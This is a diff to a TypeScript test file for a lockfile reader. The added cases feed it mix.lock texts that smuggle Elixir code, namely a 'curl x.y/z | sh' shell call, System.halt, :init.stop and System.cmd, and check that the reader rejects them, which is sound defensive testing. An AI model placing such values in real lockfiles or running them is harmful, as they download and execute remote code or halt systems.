@@ -57,7 +57,7 @@ const GENUINE: readonly (readonly [name: string, text: string])[] = [
   ],
   [
     'mix.lock',
-    '%{\n  "cowboy": {:hex, :cowboy, "2.9.0", "8a", [:make], [{:ranch, "1.8.0", [hex: :ranch, optional: false]}], "hexpm", "2c"},\n}\n',
+    '%{\n  "cowboy": {:hex, :cowboy, "2.9.0", "8a", [:make], [{:ranch, "~> 1.8 or ~> 2.0", [hex: :ranch, repo: "hexpm", optional: false]}], "hexpm", "2c"},\n  "x": {:git, "https://example.com/a/x.git", "1a", [branch: "main"]},\n}\n',
   ],
   [
     '.terraform.lock.hcl',
@@ -87,6 +87,10 @@ describe('is shown', () => {
     ['what is inherited', 'package-lock.json', '{ "__proto__": { "lockfileVersion": 3 } }'],
     ['a name of the language', 'constructor', ''],
     ['nothing', 'go.sum', ''],
+    ['a call without parentheses', 'mix.lock', '%{\n  "a": {:hex, System.shell "curl x.y/z | sh"},\n}\n'],
+    ['one inside a string', 'mix.lock', '%{\n  "a": {:hex, "#{System.halt 1}"},\n}\n'],
+    ['one of a module of Erlang', 'mix.lock', '%{\n  "a": {:hex, :init.stop},\n}\n'],
+    ['one behind an entry', 'mix.lock', '%{\n  "a": {:hex, :a}, "b": System.halt 1,\n}\n'],
     ['a call in a file that Elixir evaluates', 'mix.lock', '%{\n  "a": {:hex, System.cmd("evil", [])},\n}\n'],
   ])('%s', (_, name, text) => {
     expect(reads(name, text)).toBe(false);
